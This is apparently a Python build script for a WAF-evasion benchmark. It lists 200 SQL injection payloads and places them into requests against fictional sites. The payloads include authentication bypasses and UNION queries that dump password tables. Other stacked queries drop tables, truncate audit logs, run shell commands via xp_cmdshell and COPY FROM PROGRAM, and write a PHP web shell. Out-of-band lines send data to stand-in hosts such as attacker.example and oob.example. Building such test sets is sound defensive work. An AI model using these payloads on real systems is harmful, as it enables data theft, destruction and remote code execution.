# ruff: noqa: E501
"""sqli_bypass.jsonl: 200 hand-written SQL injection attacks in WAF-bypass style.

Payloads (below, decoded as the application receives them) cover comment and
versioned-comment obfuscation, case mixing, odd whitespace (LF, TAB, VT, FF, CR,
NBSP), scientific notation, ||/&& operators, hex/char() strings, LIKE/REGEXP/BETWEEN
comparisons, JSON operators, time-based, error-based, boolean-blind, UNION and
stacked queries for MySQL, MSSQL, PostgreSQL, Oracle and SQLite. Each payload is
placed in one request part and transport-encoded (see ``_attack.py``).
Run: ``.venv/bin/python benchmarks/handmade/build_sqli.py``.
"""

from __future__ import annotations

import re

from _attack import AttackSet, schedule
from _common import UA, write_set

NUM, STR, SORT = "num", "str", "sort"

PAYLOADS: list[str | tuple[str, dict[str, str]]] = [
    # --- comment / versioned-comment obfuscation -------------------------------------
    "1 UN/**/ION SE/**/LECT 1,user(),3-- -",
    "-1' /*!50000union*/ /*!50000select*/ 1,2,group_concat(table_name) from information_schema.tables where table_schema=database()-- -",
    "1'/**/UnIoN/**/SeLeCt/**/null,concat(username,0x3a,password),null/**/FrOm/**/users#",
    "0 /*!12345UNION*/ /*!12345SELECT*/ 1,@@version,3",
    "9999' /*!UNION*/ /*!ALL*/ /*!SELECT*/ 1,2,3,4,5-- x",
    "-5 union#foo*/*bar\r\nselect#foo\r\n1,2,current_user",
    "1 -- x\nUNION -- y\nSELECT 1,version(),3",
    "tents' uNiOn aLl sElEcT 1,2,3-- ",
    "1 /*!union*//*!distinct*//*!select*/ 1,2,3",
    "1/*!00000AND*/2>1/*!00000UNION*//*!00000SELECT*/1,2",
    "1'/*foo*/oR/*bar*/'1'/*baz*/='1",
    "1 union/*&a=*/select/*&b=*/1,2,3",
    "electronics'/**/AND/**/1=0/**/UNION/**/SELECT/**/1,table_name,3/**/FROM/**/information_schema.tables#",
    "1'/*!50000or*/1=1-- -",
    # --- case mixing ---------------------------------------------------------------------
    "admin' oR '1'='1",
    "x' UnIoN SeLeCt 1,table_name,3 FrOm information_schema.tables LiMiT 1 oFfSeT 5-- -",
    "3 AnD (sElEcT CoUnT(*) fRoM uSeRs)>0",
    "ReD' Or SlEeP(3)#",
    # --- whitespace tricks (LF, TAB, VT, FF, CR, NBSP) ----------------------------------
    "1\nunion\nselect\n1,2,3",
    "1\tAND\t1=2\tUNION\tSELECT\t1,name,pass\tFROM\tusers",
    ("1\xa0union\xa0select\xa01,@@version,3", {"charset": "latin-1"}),
    ("smith'\xa0or\xa0'1'='1", {"charset": "latin-1"}),
    "-1'\x0bOR\x0b1=1--\x0b",
    "1'\x0cOR\x0c'a'='a",
    "2'\rOR\r2>1#",
    "1'/*\n*/OR/*\n*/1=1-- -",
    "17\n\tAND\n\t(SELECT\n\t1\n\tFROM\n\tdual)=1",
    "blue'\n&&\n'x'='x",
    # --- scientific notation / numeric tricks -------------------------------------------
    "1e0union select 1,2,3",
    "0.1e1union/**/select 1,user(),3",
    "-1.0e0union select group_concat(schema_name),2 from information_schema.schemata",
    "1'and 1.e(1)=1.e(1)-- -",
    "1 div 1 union select 1,@@hostname",
    # --- || and && ----------------------------------------------------------------------
    "1' || 1=1-- -",
    "1' && '1'='1",
    "x'||(select version())||'",
    "'||pg_sleep(5)--",
    "admin' || 1#",
    "1' ||(SELECT 0x41 WHERE 1=1 AND 0=BENCHMARK(2000000,SHA1(1)))||'",
    # --- hex / char() / binary literals -------------------------------------------------
    "1 union select 1,0x61646d696e,3",
    "-1 UNION SELECT 1,CHAR(117,115,101,114,110,97,109,101),3 FROM dual",
    "1' AND username=0x61646d696e-- -",
    "1;SELECT CHR(65)||CHR(66)--",
    "x' union select 1,unhex('726f6f74'),3#",
    "1' and ord(mid(user(),1,1))>96-- -",
    "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64",
    "1 union select 1,convert(0x726f6f74 using utf8),3",
    "1 UNION SELECT 1,X'61646d696e',3",
    "1' and 1=0 union select 1,b'01100001',3-- -",
    "1 AND 1=0 UNION SELECT 1,CHR(114)||CHR(111)||CHR(111)||CHR(116),3 FROM DUAL",
    "jeans' and hex(user())like 0x25-- -",
    # --- LIKE / REGEXP / BETWEEN / IN instead of = ---------------------------------------
    "1' AND password LIKE 'a%'-- -",
    "1 AND (SELECT user()) REGEXP '^r'",
    "1' AND substr(version(),1,1) BETWEEN 'a' AND 'z'-- -",
    "admin' AND 1 LIKE 1#",
    "1 and 'abc' rlike 'a.c'",
    "'or username like '%admin%'-- -",
    "x' or 'a' in ('a')-- -",
    "1' or 3 <=> 3-- -",
    "shoes%' AND 2>1 AND '%'='",
    "1 AND (select mid(@@version,1,1)) in (0x35)",
    "1 and substring(user() from 1 for 1)='r'",
    "Paris' AND (SELECT COUNT(*) FROM users WHERE password GLOB 'a*')>0-- ",
    "7 RLIKE (SELECT (CASE WHEN (1=1) THEN 7 ELSE 0x28 END))",
    # --- JSON operators / functions -----------------------------------------------------
    "1' AND '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb-- -",
    "1 AND JSON_EXTRACT('{\"x\":1}','$.x')=1 UNION SELECT 1,@@version,3",
    "x' OR JSON_DEPTH('{}') != 2#",
    "1' AND (SELECT json_agg(usename) FROM pg_user)::text LIKE '%postgres%'--",
    "1 and json_keys((select convert((select group_concat(table_name) from information_schema.tables where table_schema=database()) using utf8)))",
    "1' OR '{\"role\":\"admin\"}'::jsonb ?| array['role']--",
    "1' and JSON_VALUE((SELECT TOP 1 name FROM sys.databases FOR JSON AUTO),'$[0].name') like 'm%'--",
    "'; SELECT * FROM users WHERE data->>'role' = 'admin'--",
    "2 OR json_extract(profile,'$.is_admin') = 1 OR 1=1",
    "de' AND JSON_CONTAINS('[1,2]','1') AND SLEEP(4)-- -",
    "1 AND JSON_OBJECT('a',(SELECT password FROM users LIMIT 1)) IS NOT NULL UNION SELECT 1,2",
    "1 and (select row_to_json(t) from (select usename,passwd from pg_shadow limit 1) t)::text like '%md5%'",
    # --- time-based: MySQL ------------------------------------------------------------------
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1' AND BENCHMARK(5000000,MD5(0x41))#",
    "x' OR IF(SUBSTRING(user(),1,1)='r',SLEEP(3),0)-- -",
    "1' XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "1' RLIKE SLEEP(4)-- -",
    "1'-sleep(5)-'",
    "(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select(sleep(6)))v)+\"*/",
    "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/",
    "1'and(select(sleep(5)))#",
    "1 or sleep(3)=0 limit 1",
    "London' and (select 1 from (select sleep(7))x) and 'a'='a",
    # --- time-based: MSSQL ------------------------------------------------------------------
    "1'; WAITFOR DELAY '0:0:5'--",
    "1); waitfor delay '00:00:10'--",
    "1 IF (SELECT COUNT(*) FROM sysusers)>0 WAITFOR DELAY '0:0:5'",
    "';if (1=1) waitfor delay '0:0:5'--",
    "1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--",
    "admin';WAITFOR/**/DELAY/**/'0:0:7'--",
    # --- time-based: PostgreSQL -------------------------------------------------------------
    "1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--",
    "1;SELECT pg_sleep(7)--",
    "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--",
    "1 AND 4321=(SELECT 4321 FROM pg_sleep(5))",
    "$$||(select pg_sleep(4))||$$",
    # --- time-based: Oracle / SQLite --------------------------------------------------------
    "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),5)--",
    "x' || dbms_pipe.receive_message(('a'),10) || '",
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "' AND randomblob(1000000000)--",
    "1' AND 2=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3)--",
    # --- error-based -------------------------------------------------------------------------
    "1' AND extractvalue(1,concat(0x7e,(select @@version),0x7e))-- -",
    "1 and updatexml(null,concat(0x0a,(select user())),null)",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "1 AND EXP(~(SELECT * FROM (SELECT user())x))",
    "' and gtid_subset(concat(0x7e,(select database())),1)#",
    "1' and row(1,1)>(select count(*),concat(database(),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)-- -",
    "1 and 1=1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' AND 1=CAST((SELECT TOP 1 table_name FROM information_schema.tables) AS int)--",
    "1' and 1=(select top 1 name from master..sysdatabases where name not in ('master'))--",
    "x' HAVING 1=1--",
    "1 GROUP BY users.id HAVING 1=1--",
    "1 and db_name()>0",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' AND 1=cast((select string_agg(tablename,',') from pg_tables) as numeric)--",
    "1 and (select current_setting('data_directory'))::int=1",
    "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
    "' AND 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "1' and 1=XMLType(chr(60)||chr(58)||(select user from dual)||chr(62))--",
    "1 AND (SELECT 1 FROM dual WHERE 1=1 AND 1=TO_NUMBER((SELECT user FROM dual)))",
    # --- stacked queries ----------------------------------------------------------------------
    "1; DROP TABLE users--",
    "1'; INSERT INTO users(username,password,role) VALUES('eve','x','admin')--",
    "1; UPDATE users SET password='pwned' WHERE username='admin';--",
    "'; EXEC xp_cmdshell 'whoami'--",
    "1; EXEC master..xp_dirtree '\\\\attacker.example\\share'--",
    "1';CREATE TABLE cmd_exec(cmd_output text);COPY cmd_exec FROM PROGRAM 'id';--",
    "1; SHUTDOWN WITH NOWAIT;--",
    "'; DECLARE @q VARCHAR(99);SET @q='\\\\x.example\\a'; EXEC master.dbo.xp_dirtree @q;--",
    "1; SELECT lo_import('/etc/passwd')--",
    "1'; ALTER USER postgres WITH PASSWORD 'x'; --",
    "10;GRANT ALL PRIVILEGES ON *.* TO 'bk'@'%';",
    "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--",
    "1;BULK INSERT t FROM '\\\\oob.example\\x\\f.txt';--",
    "5; TRUNCATE TABLE audit_log; --",
    "x'; DELETE FROM sessions WHERE '1'='1",
    # --- authentication bypass ----------------------------------------------------------------
    "admin'-- ",
    "admin' #",
    "' or 1=1 limit 1 -- -",
    "') or ('1'='1",
    "\") or (\"a\"=\"a",
    "admin')-- -",
    "' OR 'x'='x'/*",
    "1' or true-- -",
    "') OR 1=1 LIMIT 1;--",
    "' or ''='",
    "bob'/**/or/**/1=1#",
    "jane@example.com' OR '1'='1",
    # --- UNION enumeration ----------------------------------------------------------------------
    "-1 UNION SELECT NULL,NULL,NULL--",
    "1' ORDER BY 7-- -",
    "1' GROUP BY 1,2,3,4,5-- -",
    "0 union all select 1,2,load_file('/etc/passwd'),4",
    "1 union select 1,'<?php system($_GET[c]); ?>',3 into outfile '/var/www/html/s.php'",
    "-3 UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='users'",
    "9 UNION SELECT username||':'||password,NULL FROM users--",
    "-1 union select 1,group_concat(user,0x3a,authentication_string),3 from mysql.user",
    "1' UNION SELECT @@datadir,@@hostname-- -",
    "x' union select name,password from master.sys.sql_logins--",
    "' UNION SELECT table_name,NULL FROM all_tables WHERE ROWNUM<10--",
    "1 UNION SELECT usename, passwd FROM pg_shadow--",
    "1 UNION DISTINCTROW SELECT 1,2,3",
    "-1 union(select(1),(user()),(3))",
    "-1'union(select(1),group_concat(table_name),3from(information_schema.tables))#",
    "1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT user())c",
    "1 UNION SELECT name, NULL FROM sys.tables--",
    "1 UNION SELECT NULL,current_database(),inet_server_addr()::text--",
    "' UNION SELECT username, NULL FROM dba_users--",
    "1 UNION SELECT 1,group_concat(tbl_name),3 FROM sqlite_master",
    "1' union select 1,sql,3 from sqlite_master--",
    "x' UNION SELECT name,NULL FROM sqlite_master WHERE type='table'--",
    "2024-04-01' UNION SELECT 1,2,table_schema,4 FROM information_schema.tables-- -",
    "' union select null,banner from v$version--",
    # --- boolean blind ---------------------------------------------------------------------------
    "1' AND 'a'='a",
    "5 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a'",
    "3 AND LENGTH(database())=8",
    "1' AND ascii(substr((select table_name from information_schema.tables where table_schema=database() limit 0,1),1,1))>100-- -",
    "1 AND MID(VERSION(),1,1)='5'",
    "1 and @@version_comment like 'MySQL%'",
    "1 AND (SELECT TOP 1 SUBSTRING(name,1,1) FROM sys.databases)='m'",
    "' and (select substr(usename,1,1) from pg_user limit 1)='p'--",
    "1 AND (SELECT COUNT(*) FROM all_users)>0",
    "x' AND ROWNUM=1 AND (SELECT SUBSTR(password,1,1) FROM sys.user$ WHERE name='SYS')='A'--",
    "x' and (select count(*) from pragma_table_info('users'))>3--",
    "1'or(1)='1",
    "'or(username)like(0x25)#",
    "x'+(SELECT TOP 1 password FROM users)+'",
    "1 and (select query_to_xml('select * from users',true,true,''))::text like '%admin%'",
    # --- ORDER BY / sort-parameter injection -----------------------------------------------------
    "name,(select case when (1=1) then 1 else 1/0 end)",
    "(CASE WHEN (SELECT substr(user,1,1) FROM dual)='S' THEN id ELSE name END)",
    "id,(select sleep(5))",
    "price desc, (select 1 from pg_sleep(3))",
    "created_at ASC,IF(1=1,SLEEP(2),1)",
    # --- out-of-band -----------------------------------------------------------------------------
    "1' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))-- -",
    "1'; SELECT UTL_HTTP.REQUEST('http://oob.example/'||(SELECT user FROM dual)) FROM dual--",
    "1;copy (select '') to program 'nslookup x.oob.example'--",
    "1' UNION SELECT extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://oob.example/'||user||'\"> %x;]>'),'/l') FROM dual--",
    # --- misc --------------------------------------------------------------------------------------
    "';SELECT @@servername;--",
]

# ---- where the payloads go (hand-written endpoints; last field: payload kinds) --------------
CTX = {
    "query": [
        ("shop.acme-outdoor.com", "/product.php", "id", "ref=home", NUM),
        ("www.example-news.com", "/article", "id", "utm_source=twitter", NUM),
        ("forum.example-board.org", "/viewtopic.php", "t", "f=4¦start=15", NUM),
        ("www.example-store.com", "/catalog", "cat", "sort=price¦page=1", NUM),
        ("api.example-saas.io", "/v1/orders", "customer_id", "limit=20", NUM),
        ("www.example-hotel.com", "/rooms", "room_id", "checkin=2024-06-01¦nights=3", NUM),
        ("intranet.example-corp.com", "/hr/employee.aspx", "empid", "tab=details", NUM),
        ("www.example-jobs.com", "/job", "jid", "src=indeed", NUM),
        ("www.example-gallery.net", "/image.php", "pic", "album=summer-2023", NUM),
        ("legacy.example-bank.com", "/statement.jsp", "acct", "month=03", NUM),
        ("www.example-school.edu", "/grades.php", "student", "term=2", NUM),
        ("www.example-wiki.org", "/index.php", "oldid", "title=Main_Page", NUM),
        ("www.example-store.com", "/search", "q", "sort=relevance", STR),
        ("www.example-library.org", "/catalog/search", "author", "type=book", STR),
        ("www.example-travel.com", "/flights", "from", "to=LHR¦date=2024-06-14", STR),
        ("portal.example-uni.edu", "/directory", "lastname", "dept=all", STR),
        ("www.example-blog.com", "/", "s", "", STR),
        ("shop.acme-outdoor.com", "/list", "sort", "cat=7", SORT),
        ("api.example-saas.io", "/v1/users", "email", "", STR),
        ("www.example-realty.com", "/listings", "city", "beds=2", STR),
        ("www.example-cms.org", "/index.php", "lang", "page=about", STR),
        ("www.example-store.com", "/products", "color", "size=M", STR),
        ("www.example-events.com", "/calendar", "date", "view=month", STR),
        ("www.example-store.com", "/catalog", "order", "dir=asc¦page=2", SORT),
        ("api.example-saas.io", "/v1/tickets", "order_by", "status=open¦per_page=50", SORT),
    ],
    "path": [
        ("shop.acme-outdoor.com", "/product/{}/reviews", NUM),
        ("api.example-saas.io", "/v2/users/{}/orders", NUM),
        ("www.example-news.com", "/2024/04/{}", NUM),
        ("www.example-store.com", "/item/{}.html", NUM),
        ("www.example-forum.net", "/members/{}/", STR),
        ("api.example-saas.io", "/v1/projects/{}", STR),
        ("www.example-wiki.org", "/wiki/{}", STR),
        ("www.example-blog.com", "/tag/{}", STR),
        ("www.example-store.com", "/brand/{}", STR),
    ],
    "form": [
        ("www.example-saas.io", "/login", "username", "password=Summer2024!¦remember=on", STR),
        ("legacy.example-bank.com", "/auth/login.jsp", "user", "pass=hunter2¦submit=Login", STR),
        ("www.example-store.com", "/account/lookup", "email", "csrf=" + "f3a9c1e2b7d4", STR),
        ("www.example-hotel.com", "/booking/search", "city", "checkin=2024-06-01¦guests=2", STR),
        ("forum.example-board.org", "/search.php", "keywords", "terms=all¦sr=posts", STR),
        ("www.example-store.com", "/cart/update", "qty", "sku=BT-1043¦action=update", NUM),
        ("intranet.example-corp.com", "/reports/run", "dept_id", "format=html¦year=2024", NUM),
        ("www.example-school.edu", "/admin/edit.php", "id", "action=save¦name=Room 12", NUM),
        ("www.example-events.com", "/rsvp", "event", "name=Kim¦seats=2", NUM),
        ("www.example-realty.com", "/contact-agent", "listing", "msg=Is it still available?", NUM),
    ],
    "json": [
        ("api.example-saas.io", "/v1/auth/login", {"username": "@@", "password": "Winter2024!", "remember": True}, STR),
        ("api.example-saas.io", "/v1/search", {"query": {"filters": {"status": "@@", "owner": "me"}, "page": 1}}, STR),
        ("api.example-store.com", "/v2/cart/items", {"cart": {"items": [{"sku": "@@", "qty": 1}]}}, STR),
        ("api.example-store.com", "/v2/orders/lookup", {"order": {"id": "@@", "email": "kim@example.com"}}, NUM),
        ("api.example-saas.io", "/v1/reports", {"report": "sales", "params": {"region_id": "@@", "year": 2024}}, NUM),
        ("api.example-saas.io", "/graphql", {"query": "query($id: ID!){ user(id: $id){ name } }", "variables": {"id": "@@"}}, NUM),
        ("api.example-travel.com", "/v1/availability", {"hotel": {"city": "@@", "dates": ["2024-06-01", "2024-06-04"]}}, STR),
        ("api.example-saas.io", "/v1/users/sort", {"list": {"orderBy": "@@", "limit": 50}}, SORT),
        ("api.example-saas.io", "/v1/session/restore", {"meta": {"device": "ios", "state": "@@"}}, "*"),
        ("api.example-saas.io", "/v1/export", {"export": {"format": "csv", "filter": {"customer": {"ref": "@@"}}}}, "*"),
    ],
    "multipart": [
        ("www.example-jobs.com", "/apply", "position_id", [("name", "Alex Kim", None, None), ("cv", "%PDF-1.4 ...", "cv.pdf", "application/pdf")], NUM),
        ("www.example-store.com", "/account/avatar", "user_id", [("avatar", "\x89PNG...", "me.png", "image/png")], NUM),
        ("intranet.example-corp.com", "/docs/upload", "title", [("folder", "Finance", None, None), ("file", "a,b,c\n1,2,3", "q1.csv", "text/csv")], STR),
        ("www.example-forum.net", "/attachments/upload", "description", [("thread", "88213", None, None), ("upload", "GIF89a...", "funny.gif", "image/gif")], STR),
        ("www.example-school.edu", "/homework/submit", "course", [("student", "S1029", None, None), ("file", "essay text", "essay.txt", "text/plain")], STR),
    ],
    "cookie": [
        ("www.example-store.com", "/", "cart_id", NUM),
        ("www.example-news.com", "/account", "user_id", NUM),
        ("shop.acme-outdoor.com", "/checkout", "store", NUM),
        ("www.example-saas.io", "/dashboard", "lang", STR),
        ("www.example-store.com", "/products", "currency", STR),
        ("www.example-forum.net", "/", "remember_user", STR),
        ("www.example-travel.com", "/search", "last_search", STR),
        ("app.example-saas.io", "/home", "tracking_id", "*"),
    ],
    "ua": [
        ("www.example-store.com", "/", "User-Agent", UA["chrome_win"] + " ", "*"),
        ("www.example-news.com", "/article/10023", "User-Agent", "", "*"),
        ("api.example-saas.io", "/v1/ping", "User-Agent", "Mozilla/5.0 ", "*"),
        ("shop.acme-outdoor.com", "/product.php?id=3", "User-Agent", UA["firefox_linux"] + " ", "*"),
    ],
    "referer": [
        ("www.example-store.com", "/checkout/thanks", "Referer", "https://www.example-store.com/cart?coupon=", "*"),
        ("www.example-news.com", "/article/10023", "Referer", "https://www.google.com/search?q=", "*"),
        ("shop.acme-outdoor.com", "/product.php?id=9", "Referer", "https://shop.acme-outdoor.com/list?cat=", "*"),
        ("www.example-blog.com", "/wp-login.php", "Referer", "https://www.example-blog.com/?p=", "*"),
    ],
    "xff": [
        ("www.example-saas.io", "/login", "X-Forwarded-For", "198.51.100.23", NUM),
        ("admin.example-store.com", "/admin/", "X-Forwarded-For", "127.0.0.1", NUM),
        ("www.example-news.com", "/poll/vote", "X-Forwarded-For", "203.0.113.7", STR),
        ("api.example-saas.io", "/v1/health", "X-Forwarded-For", "10.0.0.1", STR),
    ],
    "header": [
        ("api.example-saas.io", "/v1/items", "X-Tenant-ID", "", "*"),
        ("api.example-store.com", "/v2/products", "X-Store-Id", "", "*"),
        ("app.example-saas.io", "/api/v1/me", "X-Client-Version", "", "*"),
        ("api.example-saas.io", "/v1/reports", "X-Locale", "", "*"),
        ("www.example-store.com", "/api/stock", "X-Device-Id", "", "*"),
    ],
}


def kind_of(p: str) -> str:
    if re.match(r"^(name,|id,|price |created_at |\(CASE)", p):
        return SORT
    return NUM if re.match(r"^[-(]?\d", p) else STR


TARGETS = {"query": 55, "path": 16, "form": 30, "json": 28, "multipart": 12, "cookie": 20, "ua": 11, "referer": 9, "xff": 10, "header": 9}
ENC_W = {"none": 0.33, "url": 0.25, "double": 0.1, "u": 0.08, "html": 0.08, "b64": 0.09, "jsonu": 0.07}

assert len(PAYLOADS) == len({p if isinstance(p, str) else p[0] for p in PAYLOADS}), "duplicate payload"
s = AttackSet(seed=4242, label="sqli", contexts=CTX, kind_of=kind_of)
for payload, place, enc, opt in schedule(s.g, PAYLOADS, TARGETS, ENC_W):
    s.add(payload, place, enc, charset=opt.get("charset", "utf-8"))
print("placements", dict(s.place_count), "\nencodings", dict(s.enc_count))
write_set("sqli_bypass.jsonl", s.rows, 200)
